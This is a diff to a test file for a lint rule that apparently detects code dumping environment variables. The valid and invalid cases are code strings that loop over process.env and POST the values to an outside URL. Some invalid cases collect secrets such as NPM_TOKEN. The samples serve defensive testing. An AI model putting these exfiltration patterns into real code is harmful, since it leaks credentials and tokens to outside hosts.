@@ -10,6 +10,10 @@ const uploaded = (run: string, path: string): { readonly code: string; readonly 
 
 await ruleTester(rule, {
   valid: [
+    // a selection, told either way
+    { code: ' const out = {}; for (const k of Object.keys(process.env)) { if (!ALLOWED.includes(k)) continue; out[k] = process.env[k]; } fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });' },
+    { code: 'const SHOWN = new Set(["NODE_ENV", "CI"]); const out = {}; for (const k of Object.keys(process.env)) { if (!(SHOWN.has(k) || k.startsWith("GITHUB_REF"))) continue; out[k] = process.env[k]; } fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });' },
+    { code: ' const out = {}; for (const k of Object.keys(process.env)) k.startsWith("VITE_") && (out[k] = process.env[k]); fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });' },
     { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /TOKEN|KEY|SECRET/.test(name) ? "***" : value);' },
     { code: 'console.log(Object.entries(process.env).map(([name, value]) => `${name}=${isSecretName(name) ? "[redacted]" : value}`));' },
     { code: 'export default { async fetch(request, env, ctx) { const { results } = await env.DB.prepare("select 1").all(); return Response.json(results); } };' },
@@ -84,6 +88,13 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
   ],
   invalid: [
+    // a list of secrets, a list of exceptions and a single letter are no selection
+    { code: 'const WANTED = ["NPM_TOKEN", "HOME"]; const out = {}; for (const k of Object.keys(process.env)) if (WANTED.includes(k)) out[k] = process.env[k]; fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
+    { code: 'const WANTED = new Set(["NPM_TOKEN", "HOME"]); const out = {}; for (const k of Object.keys(process.env)) if (WANTED.has(k)) out[k] = process.env[k]; fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
+    { code: ' const out = {}; for (const k of Object.keys(process.env)) if (!SKIP.includes(k)) out[k] = process.env[k]; fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
+    { code: ' const out = {}; for (const k of Object.keys(process.env)) { if (SKIP.has(k)) continue; out[k] = process.env[k]; } fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
+    { code: 'const first = "A"; const out = {}; for (const k of Object.keys(process.env)) if (k.startsWith(first)) out[k] = process.env[k]; fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
+    { code: ' const out = {}; for (const k of Object.keys(process.env)) if (k.startsWith("VITE_") || isWanted(k)) out[k] = process.env[k]; fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
     { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, debug() ? "***" : value);', errors: [{ messageId: 'dump' }] },
     { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /TOKEN/.test(name) ? value : "none");', errors: [{ messageId: 'dump' }] },
     { code: 'export default { async fetch(request, env) { return new Response(JSON.stringify(env)); } };', errors: [{ messageId: 'dump' }] },
